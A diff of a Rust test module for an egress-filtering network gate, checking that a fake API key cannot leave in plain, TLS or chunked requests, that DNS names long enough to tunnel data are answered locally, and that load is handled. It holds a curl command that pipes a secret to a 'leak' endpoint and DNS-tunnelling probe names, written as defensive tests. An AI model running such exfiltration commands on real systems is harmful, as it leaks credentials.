@@ -1,18 +1,17 @@
-//! What passes through gate: in whose name, inspected, and how fast.
+//! Traffic through gate: where it goes, whether it is inspected, and how fast.
 
 use std::time::Duration;
 
-use cloud_init_proof::run::Run;
 use polis_stack_proof::Result;
 use polis_stack_proof::bench::Bench;
-use polis_stack_proof::internet::{OTHER, WEB};
+use polis_stack_proof::internet::{NAME_SERVER, OTHER, WEB};
 
 use crate::ensure;
-use crate::probe::{python, shell};
+use crate::probe::{ask, python, shell};
 
 const LOAD: &str = include_str!("load.py");
 
-/// A connection goes where it was made to, whatever the request in it says.
+/// A connection goes to the address it was made to, whatever the request says.
 pub(crate) fn gate_sees_the_original_destination(bench: &mut Bench) -> Result<()> {
     for address in [WEB, OTHER] {
         let path = format!("/original/{address}");
@@ -40,7 +39,7 @@ pub(crate) fn gate_sees_the_original_destination(bench: &mut Bench) -> Result<()
     Ok(())
 }
 
-/// A credential in a request's body does not leave, be it plain, long, in TLS or in pieces.
+/// A credential in the body of a request does not leave: in plain HTTP, in TLS, or chunked behind other data.
 pub(crate) fn credentials_are_refused(bench: &mut Bench) -> Result<()> {
     let secret = "sk-ant-api03-STACKPROOFabcdefghijklmnopqrstuvwxyz0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789abcdefghijkl-AA";
     let ways = [
@@ -57,7 +56,7 @@ pub(crate) fn credentials_are_refused(bench: &mut Bench) -> Result<()> {
             ),
         ),
         (
-            "in pieces",
+            "chunked",
             format!(
                 "(head -c 20000 /dev/zero | tr '\\0' x; printf '%s' '{secret}') | curl -sS -m 20 -o /dev/null -w '%{{http_code}}' \
                  -H 'Transfer-Encoding: chunked' -T - http://web.example/leak"
@@ -65,9 +64,10 @@ pub(crate) fn credentials_are_refused(bench: &mut Bench) -> Result<()> {
         ),
     ];
     for (way, command) in ways {
-        let ran = bench.inside("workspace", &["bash", "-c", &command])?;
-        let passed = ran.stdout.trim().starts_with('2');
-        ensure(!passed, || format!("{way}: answered {}", ran.stdout))?;
+        let ran = bench.inside("workspace", &["bash", "-c", &command]).ran()?;
+        ensure(ran.stdout.trim() == "403", || {
+            format!("{way}: expected 403, found {ran:?}")
+        })?;
         let seen = bench.internet.seen_with("STACKPROOF")?;
         ensure(seen.is_empty(), || {
             format!("{way}: it arrived outside: {seen:?}")
@@ -82,7 +82,37 @@ pub(crate) fn credentials_are_refused(bench: &mut Bench) -> Result<()> {
     })
 }
 
-/// One run of `load.py`: requests a second, the 99th percentile in milliseconds, and how many were lost.
+/// Names and records that could carry data out get an answer of resolver's own; an ordinary name still resolves.
+pub(crate) fn names_that_could_carry_data_are_not_forwarded(bench: &mut Bench) -> Result<()> {
+    // resolver on the workspace's network, and any other server, whose queries gate sends to resolver.
+    const SERVERS: [&str; 2] = ["10.10.1.2", NAME_SERVER];
+    let long_label = format!("{}.web.example", "a".repeat(51));
+    let long_name = format!("{}web.example", "aaaaaaaaa.".repeat(15));
+    let expected = [
+        ("web.example 1".to_owned(), format!("answers {WEB}")),
+        ("web.example 16".to_owned(), "answers code 0".to_owned()),
+        ("web.example 10".to_owned(), "answers code 0".to_owned()),
+        (format!("{long_label} 1"), "answers code 3".to_owned()),
+        (format!("{long_name} 1"), "answers code 3".to_owned()),
+    ];
+    for server in SERVERS {
+        let questions = expected
+            .each_ref()
+            .map(|(question, _)| format!("dns {server} {question}"));
+        let answers = ask(bench, &questions)?;
+        for (question, (_, wanted)) in questions.iter().zip(&expected) {
+            ensure(answers.get(question) == Some(wanted), || {
+                format!(
+                    "`{question}`: {:?}, expected {wanted:?}",
+                    answers.get(question)
+                )
+            })?;
+        }
+    }
+    Ok(())
+}
+
+/// One run of `load.py`: requests per second, the 99th percentile in milliseconds, and how many requests were lost.
 #[derive(Debug)]
 struct Load {
     rate: f64,
@@ -113,7 +143,7 @@ impl Load {
     }
 }
 
-/// Many requests at once: each is answered.
+/// Every one of many simultaneous requests is answered.
 pub(crate) fn no_request_is_lost(bench: &mut Bench) -> Result<()> {
     for round in 1..=3 {
         let said = python(bench, LOAD, &[WEB, "/quiet", "128", "1"])?;
@@ -128,19 +158,18 @@ pub(crate) fn no_request_is_lost(bench: &mut Bench) -> Result<()> {
     Ok(())
 }
 
-/// Prints what inspection costs: the same requests through gate and, from gate's own network, past it.
+/// Prints the cost of inspection: the same requests through gate and, from gate's network namespace, directly.
 pub(crate) fn speed(bench: &mut Bench) -> Result<()> {
     let words = [WEB, "/quiet", "16", "25"];
     let through = Load::read(&python(bench, LOAD, &words)?)?;
-    let pid = bench.pid("gate")?;
-    let outer = ["docker", "exec", "--interactive", bench.guest.name()];
-    let enter = ["nsenter", "--net", "--target", &pid, "python3", "-"];
-    let said = Run::new(&[&outer[..], &enter, &words].concat())
+    let load = [&["python3", "-"][..], &words].concat();
+    let said = bench
+        .in_network_of("gate", &load)?
         .input(LOAD.as_bytes())
         .output()?;
     let past = Load::read(&said)?;
     println!(
-        "          requests/s: {:.0} through gate, {:.0} past it, ratio {:.2}; p99 {:.0} ms and {:.0} ms; lost {} and {}",
+        "          requests/s: {:.0} through gate, {:.0} directly, ratio {:.2}; p99 {:.0} ms and {:.0} ms; lost {} and {}",
         through.rate,
         past.rate,
         past.rate / through.rate,
@@ -154,7 +183,7 @@ pub(crate) fn speed(bench: &mut Bench) -> Result<()> {
         Duration::from_secs_f64(400.0 / through.rate),
     ));
     bench.times.push((
-        "400 requests past it".to_owned(),
+        "400 requests directly".to_owned(),
         Duration::from_secs_f64(400.0 / past.rate),
     ));
     ensure(through.lost == 0 && past.lost == 0, || {
